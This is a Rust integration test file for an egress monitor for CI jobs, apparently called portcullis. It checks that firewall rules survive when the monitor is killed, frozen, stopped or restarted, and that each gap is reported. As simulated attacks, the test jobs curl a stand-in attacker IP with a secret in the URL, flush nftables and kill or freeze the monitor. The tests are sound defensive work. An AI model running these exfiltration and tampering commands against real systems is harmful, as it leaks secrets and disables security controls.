//! The monitor dies, is stopped, or is started again while a job runs: nothing leaks, the job goes on, the gap is told.

mod life;

use anyhow::{Context, Result, ensure};
use life::{
    BLOCK, EXFILTRATE, Gate, Puppet, assert_gapless, assert_nothing_left, call, detections,
    has_stage, our_tables, postures, wait_gone,
};
use nix::sys::signal::Signal;
use portcullis_common::event::{
    DetectionType, EnforcementScope, JobStage, PostureLevel, RecordedDetection,
};
use portcullis_tests::cgroup::mount_point;
use portcullis_tests::job::StepKind;
use portcullis_tests::world::{MonitorOptions, MonitorPlace};
use portcullis_tests::{JobOutcome, World, wait_for, wait_until};
use std::fs;
use std::process::Stdio;

fn gate(place: MonitorPlace) -> Result<Gate> {
    let options = MonitorOptions { place, ..MonitorOptions::default() };
    Gate::with(World::builder().build()?, &[("block", BLOCK)], options)
}

/// Opens a connection in the job's shell that is used later, on descriptor 9.
const OPEN: &str = r#"
exec 9<>/dev/tcp/ok.test/80
printf 'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n' >&9
read -r line <&9 && echo "$line"
address=$(getent ahostsv4 ok.test | awk '{print $1; exit}'); echo "address $address"
"#;

/// Uses it, and an address that was opened before.
const USE: &str = r#"
printf 'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n' >&9 && read -t 5 -r line <&9 && echo "$line"
curl -sS --max-time 5 -o /dev/null --resolve "ok.test:443:$address" https://ok.test/
"#;

fn dies_and_comes_back(place: MonitorPlace) -> Result<()> {
    let mut gate = gate(place)?;
    let world = &gate.world;
    let mut puppet = Puppet::start_in(world, 0, "octo/hello", &gate.canary)?;
    let opened = puppet.run(OPEN)?;
    ensure!(opened.succeeded() && opened.output.contains("address 198.51.100."), "{opened:?}");
    let tables = our_tables(world)?;
    assert_eq!(tables.len(), 2, "{tables:?}");

    gate.monitor.kill()?;
    assert_eq!(our_tables(world)?, tables, "rules stay");
    let attack = puppet.run(EXFILTRATE)?;
    let used = puppet.run(USE)?;
    ensure!(used.succeeded(), "what was open stays usable while the monitor is down: {used:?}");
    let name = puppet.run("curl -sS --max-time 3 https://a.wild.test/")?;
    ensure!(!name.succeeded(), "names do not resolve while the monitor is down: {name:?}");
    let early = puppet.run(&format!(
        "{} --socket {}",
        world.root().join("opt/portcullis/bin/post-job").display(),
        world.socket().display()
    ))?;
    assert_eq!(early.status, 2, "{early:?}");
    ensure!(early.output.contains("no monitor listens"), "{early:?}");

    gate.monitor.restart()?;
    let status = gate.monitor.status()?;
    assert_eq!(status.jobs.len(), 1, "{status:?}\n{}", gate.monitor.log());
    assert_eq!(our_tables(world)?, tables, "the same tables, no second ones");
    let used = puppet.run(USE)?;
    ensure!(used.succeeded(), "what was open stays usable: {used:?}\n{}", gate.monitor.log());
    let name = puppet.run(&call("b.wild.test"))?;
    ensure!(name.succeeded(), "names resolve again: {name:?}\n{}", gate.monitor.log());
    let again = puppet.run(EXFILTRATE)?;

    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}\n{}", result.log(), gate.monitor.log());
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result).with_context(|| format!("{attack:?} {again:?}"))?;
    assert_nothing_left(world)?;

    let events = gate.last_events()?;
    assert_gapless(&events);
    assert!(has_stage(&events, JobStage::Adopted), "{events:#?}");
    assert!(has_stage(&events, JobStage::Ended));
    let gap = |text: &str| text.contains("it took this job over at");
    assert!(postures(&events).any(|event| gap(&event.reason)), "{events:#?}");
    let report = gate.last_report()?;
    assert!(report.posture.warnings.iter().any(|warning| gap(warning)), "{:#?}", report.posture);
    assert!(gap(&result.summary()), "{}", result.summary());
    let hook = result.step_of_kind(StepKind::CompletedHook).context("no completed hook")?;
    assert!(gap(&hook.log), "{}", hook.log);
    assert!(detections(&events).next().is_none(), "a restart is no tampering: {events:#?}");
    Ok(())
}

#[test]
fn a_killed_monitor_takes_the_job_over() -> Result<()> {
    dies_and_comes_back(MonitorPlace::RunnerHost)
}

#[test]
fn a_killed_monitor_takes_a_job_of_another_network_namespace_over() -> Result<()> {
    dies_and_comes_back(MonitorPlace::Machine)
}

fn worker_dies_meanwhile(place: MonitorPlace) -> Result<()> {
    let mut gate = gate(place)?;
    let mut puppet = Puppet::start_in(&gate.world, 0, "octo/hello", &gate.canary)?;
    let daemon = puppet.run(
        r#"env -u RUNNER_TRACKING_ID setsid --fork bash -c 'echo $$ >"$PUPPET/pid"; while :; do curl -sSk --max-time 1 "https://203.0.113.66/$S"; done' >/dev/null 2>&1
        until [ -s "$PUPPET/pid" ]; do sleep 0.02; done; cat "$PUPPET/pid""#,
    )?;
    let daemon: u32 = daemon.output.trim().parse()?;
    gate.monitor.kill()?;
    puppet.job.signal_worker(Signal::SIGKILL)?;
    let result = puppet.job.wait()?;
    assert_eq!(result.outcome, JobOutcome::Failure);
    assert_eq!(our_tables(&gate.world)?.len(), 2, "what is left of the job is still judged");

    gate.monitor.restart()?;
    wait_gone(daemon)?;
    gate.monitor.wait_until_idle()?;
    assert_nothing_left(&gate.world).with_context(|| gate.monitor.log())?;
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    assert!(has_stage(&events, JobStage::Ended), "{events:#?}");
    let report = gate.last_report()?;
    let told = |warning: &String| warning.contains("while no monitor was running");
    assert!(report.posture.warnings.iter().any(told), "{report:#?}");

    // The twin: the next job on this runner is served as if nothing had been.
    let next = gate.run(&gate.job(&call("ok.test")))?;
    assert_eq!(next.outcome, JobOutcome::Success, "{}\n{}", next.log(), gate.monitor.log());
    assert_nothing_left(&gate.world)
}

#[test]
fn a_worker_that_dies_meanwhile_is_cleaned_up_after() -> Result<()> {
    worker_dies_meanwhile(MonitorPlace::RunnerHost)
}

#[test]
fn a_worker_of_another_network_namespace_that_dies_meanwhile_is_cleaned_up_after() -> Result<()> {
    worker_dies_meanwhile(MonitorPlace::Machine)
}

/// Plays systemd for the monitor: passes its listening socket and what it has kept, keeps what it is given, and starts it
/// again, once the file `start` is there. What it keeps stands in the file `kept`.
const SERVICE_MANAGER: &str = r#"
import os, select, socket, sys
place, socket_path, program = sys.argv[1], sys.argv[2], sys.argv[3:]
os.makedirs(os.path.dirname(socket_path), exist_ok=True)
listener = socket.socket(socket.AF_UNIX); listener.bind(socket_path); os.chmod(socket_path, 0o666); listener.listen(64)
notify_path = place + "/notify"
notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); notify.bind(notify_path)
store = []
def write(name, text):
    with open(place + "/new", "w") as file: file.write(text)
    os.rename(place + "/new", place + "/" + name)
def listen():
    message, descriptors, _, _ = socket.recv_fds(notify, 65536, 16)
    lines = dict(line.split("=", 1) for line in message.decode().splitlines())
    name = lines.get("FDNAME", "stored")
    if lines.get("READY") == "1": write("pid", str(child))
    if lines.get("FDSTORE") == "1":
        assert lines.get("FDPOLL") == "0", lines
        store.extend((name, descriptor) for descriptor in descriptors)
    if lines.get("FDSTOREREMOVE") == "1":
        for kept in [kept for kept in store if kept[0] == name]:
            os.close(kept[1]); store.remove(kept)
    write("kept", "\n".join(name for name, _ in store))
while True:
    while not os.path.exists(place + "/start"):
        if select.select([notify], [], [], 0.01)[0]: listen()
    os.unlink(place + "/start")
    child = os.fork()
    if child == 0:
        passed = [("portcullis-monitor.socket", listener.fileno())] + store
        high = [os.dup2(descriptor, 200 + number) for number, (_, descriptor) in enumerate(passed)]
        for number, descriptor in enumerate(high): os.dup2(descriptor, 3 + number, inheritable=True)
        environment = {"PATH": os.environ["PATH"], "NOTIFY_SOCKET": notify_path, "FDSTORE": "8",
                       "LISTEN_PID": str(os.getpid()), "LISTEN_FDS": str(len(passed)),
                       "LISTEN_FDNAMES": ":".join(name for name, _ in passed)}
        for number in high: os.close(number)
        os.execve(program[0], program, environment)
    while os.waitpid(child, os.WNOHANG)[0] == 0:
        if select.select([notify], [], [], 0.01)[0]: listen()
    if os.path.exists(place + "/pid"): os.unlink(place + "/pid")
"#;

/// Where tables can't outlive their owner's socket (before kernel 6.9), systemd keeps the socket: the rules stay and keep
/// their owner over a restart, and are gone with the job.
#[test]
fn systemd_keeps_the_rules_of_a_kernel_that_does_not() -> Result<()> {
    let world = World::builder().build()?;
    world.write_configuration("[kernel]\nwithout = ['nftables-persist']\n")?;
    world.write_policy("block", BLOCK)?;
    world.install_hooks()?;
    let program = world.install_program("monitor")?;
    let place = tempfile::Builder::new().prefix("systemd-").tempdir_in(world.directory())?.keep();
    let file = |name: &str| fs::read_to_string(place.join(name)).unwrap_or_default();
    let start = || -> Result<u32> {
        fs::write(place.join("start"), "")?;
        // Written when the monitor says that it is ready.
        let pid = || file("pid").parse().ok();
        wait_for("the monitor", pid).with_context(|| file("log"))
    };
    let kill = |pid: u32| -> Result<()> {
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid.cast_signed()), Signal::SIGKILL)?;
        wait_gone(pid)?;
        wait_until("its end to be seen", || !place.join("pid").exists())
    };
    let log = fs::File::create(place.join("log"))?;
    let manager = world
        .command("python3")
        .args(["-c", SERVICE_MANAGER])
        .args([place.as_os_str(), world.socket().as_os_str(), program.as_os_str()])
        .args(["--root".as_ref(), world.root().as_os_str(), "serve".as_ref()])
        .cgroup(&world.cgroup().child("portcullis.service")?)
        .spawn(Stdio::null(), log.try_clone()?, log)?;
    let first = start()?;
    let canary = portcullis_tests::Canary::generate()?;
    let mut puppet = Puppet::start_in(&world, 0, "octo/hello", &canary)?;
    let tables = our_tables(&world)?;
    assert_eq!(tables.len(), 2, "{}", file("log"));
    let listed = || world.runner_network().tool("nft", &["list", "ruleset"], None);
    ensure!(listed()?.contains("flags owner") && !listed()?.contains("persist"), "{}", listed()?);
    assert_eq!(file("kept").lines().count(), 1, "{}", file("log"));
    let opened = puppet.run(OPEN)?;
    ensure!(opened.succeeded(), "{opened:?}");

    let mut monitor = first;
    for round in 0..2 {
        kill(monitor)?;
        assert_eq!(our_tables(&world)?, tables, "the rules went with the monitor");
        // Root can't take them away while it is down, nor afterwards.
        let flushed = puppet.run("sudo nft flush ruleset; true")?;
        assert_eq!(our_tables(&world)?, tables, "{flushed:?}");
        let attack = puppet.run("for to in 203.0.113.66 '[2001:db8::66]'; do curl -sSk --max-time 1 https://$to/$S; done; true")?;
        let used = puppet.run(USE)?;
        ensure!(used.succeeded(), "{used:?} {attack:?}");
        monitor = start()?;
        let name = puppet.run(&call("a.wild.test"))?;
        ensure!(name.succeeded(), "{name:?}\n{}", file("log"));
        let flushed = puppet.run("sudo nft flush ruleset; true")?;
        assert_eq!(our_tables(&world)?, tables, "{round}: {flushed:?}");
        ensure!(listed()?.contains("flags owner"), "{}", listed()?);
        assert_eq!(file("kept").lines().count(), 1, "{round}: {}", file("log"));
    }
    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}\n{}", result.log(), file("log"));
    assert_nothing_left(&world)?;
    wait_until("systemd to close the socket", || file("kept").is_empty())?;
    world.attacker().assert_untouched(&canary)?;

    // A Worker that dies while no monitor runs: the next one removes the rules by the socket that was kept.
    let puppet = Puppet::start_in(&world, 0, "octo/hello", &canary)?;
    kill(monitor)?;
    puppet.job.signal_worker(Signal::SIGKILL)?;
    puppet.job.wait()?;
    assert_eq!(our_tables(&world)?.len(), 2);
    start()?;
    assert_nothing_left(&world).with_context(|| file("log"))?;
    wait_until("systemd to close the socket", || file("kept").is_empty())?;
    drop(manager);
    Ok(())
}

/// Without anybody who keeps the socket, such a kernel's tables have no owner, and the posture says so.
#[test]
fn without_systemd_the_rules_of_such_a_kernel_have_no_owner() -> Result<()> {
    let world = World::builder().build()?;
    world.write_configuration("[kernel]\nwithout = ['nftables-persist']\n")?;
    let mut gate = Gate::up(world, &[("block", BLOCK)])?;
    let mut puppet = Puppet::start_in(&gate.world, 0, "octo/hello", &gate.canary)?;
    let tables = our_tables(&gate.world)?;
    let posture = gate.monitor.status()?.jobs[0].posture.clone();
    assert_eq!(posture.level, PostureLevel::Degraded, "{posture:#?}");
    gate.monitor.kill()?;
    assert_eq!(our_tables(&gate.world)?, tables, "rules stay");
    gate.monitor.restart()?;
    // What root takes away is put back, and recorded.
    puppet.run("sudo nft flush ruleset")?;
    wait_until("the rules to be put back", || {
        our_tables(&gate.world).is_ok_and(|found| found == tables)
    })?;
    let attack = puppet.run(EXFILTRATE)?;
    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result).with_context(|| format!("{attack:?}"))?;
    assert!(detections(&gate.last_events()?).any(|event| {
        event.detection == DetectionType::Recorded(RecordedDetection::FirewallTampering)
    }));
    assert_nothing_left(&gate.world)
}

/// A job that runs although nothing is in force, because the failure mode is `audit`, is not forgotten either.
#[test]
fn a_job_without_enforcement_is_taken_over() -> Result<()> {
    let world = World::builder().build()?;
    world.write_configuration("[defaults]\non-failure = \"audit\"\n")?;
    let mut gate = Gate::up(world, &[("block", BLOCK)])?;
    let resolv = gate.world.directory().join("etc/resolv.conf");
    fs::write(&resolv, "# nobody\n")?;
    for is_killed in [false, true] {
        let puppet = Puppet::start_in(&gate.world, 0, "octo/hello", &gate.canary)?;
        gate.monitor.kill()?;
        let result = if is_killed {
            puppet.job.signal_worker(Signal::SIGKILL)?;
            let result = puppet.job.wait()?;
            gate.monitor.restart()?;
            result
        } else {
            gate.monitor.restart()?;
            let result = puppet.finish()?;
            let hook = result.step_of_kind(StepKind::CompletedHook).context("no hook")?;
            ensure!(hook.log.contains("DNS server"), "{}\n{}", hook.log, gate.monitor.log());
            ensure!(result.summary().contains("[!CAUTION]"), "{}", result.summary());
            result
        };
        assert_eq!(result.outcome == JobOutcome::Success, !is_killed, "{}", result.log());
        assert_nothing_left(&gate.world).with_context(|| gate.monitor.log())?;
        let report = gate.last_report()?;
        assert_eq!(report.posture.level, PostureLevel::Unenforced);
        let events = gate.last_events()?;
        assert_gapless(&events);
        assert!(has_stage(&events, JobStage::Ended), "{events:#?}");
        assert_eq!(has_stage(&events, JobStage::Adopted), !is_killed, "{events:#?}");
        assert!(postures(&events).any(|event| event.reason.contains("was not running")));
    }
    Ok(())
}

/// P2: root in the job stops, freezes and kills the monitor. The twin: an orderly restart.
#[test]
fn a_monitor_that_the_job_stops_keeps_its_rules() -> Result<()> {
    let mut gate = gate(MonitorPlace::RunnerHost)?;
    let mut puppet = Puppet::start_in(&gate.world, 0, "octo/hello", &gate.canary)?;
    let opened = puppet.run(OPEN)?;
    ensure!(opened.succeeded(), "{opened:?}");
    let monitor = gate.monitor.pid();

    let stopped = puppet.run(&format!("sudo kill -STOP {monitor}; {EXFILTRATE}"))?;
    let used = puppet.run(USE)?;
    ensure!(used.succeeded(), "{used:?} {stopped:?}");
    puppet.run(&format!("sudo kill -CONT {monitor}"))?;
    let name = puppet.run(&call("c.wild.test"))?;
    ensure!(name.succeeded(), "{name:?}");

    let group = fs::read_to_string(format!("/proc/{monitor}/cgroup"))?;
    let group = group.lines().find_map(|line| line.strip_prefix("0::/")).context("no cgroup")?;
    let freezer = mount_point()?.join(group).join("cgroup.freeze");
    let freeze = |on: u8| format!("echo {on} | sudo tee {} >/dev/null", freezer.display());
    let frozen = puppet.run(&format!(
        "{}; for to in 203.0.113.66 '[2001:db8::66]'; do curl -sSk --max-time 1 https://$to/$S; done; true",
        freeze(1)
    ))?;
    let used = puppet.run(USE)?;
    ensure!(used.succeeded(), "{used:?} {frozen:?}");
    let name = puppet.run("curl -sS --max-time 1 https://f.wild.test/")?;
    ensure!(!name.succeeded(), "it was not frozen: {name:?} {frozen:?}");
    let thawed = puppet.run(&format!("{}; {}", freeze(0), call("f.wild.test")))?;
    ensure!(thawed.succeeded(), "{thawed:?}");

    let killed = puppet.run(&format!("sudo kill -9 {monitor}; {EXFILTRATE}"))?;
    ensure!(!gate.monitor.is_running());
    gate.monitor.restart()?;
    let name = puppet.run(&call("d.wild.test"))?;
    ensure!(name.succeeded(), "{name:?} {killed:?}");

    let status = gate.monitor.stop()?;
    ensure!(status.success(), "{status}");
    assert_eq!(our_tables(&gate.world)?.len(), 2, "rules stay");
    let attack = puppet.run(EXFILTRATE)?;
    gate.monitor.restart()?;
    let used = puppet.run(&format!("{USE}\n{}", call("e.wild.test")))?;
    ensure!(used.succeeded(), "{used:?} {attack:?}");

    let posture = &gate.monitor.status()?.jobs[0].posture;
    assert!(
        matches!(posture.level, PostureLevel::Enforced | PostureLevel::Degraded),
        "{posture:?}"
    );
    assert_eq!(posture.scope, EnforcementScope::Host);
    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result)?;
    assert_nothing_left(&gate.world)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    let adopted = events
        .iter()
        .filter(|event| {
            matches!(&event.kind, portcullis_common::event::EventKind::Job(job) if job.stage == JobStage::Adopted)
        })
        .count();
    assert_eq!(adopted, 2);
    // Each gap is told, also those of earlier restarts.
    let told = gate.last_report()?.posture.warnings;
    assert_eq!(
        told.iter().filter(|text| text.contains("it took this job over at")).count(),
        2,
        "{told:#?}"
    );
    Ok(())
}
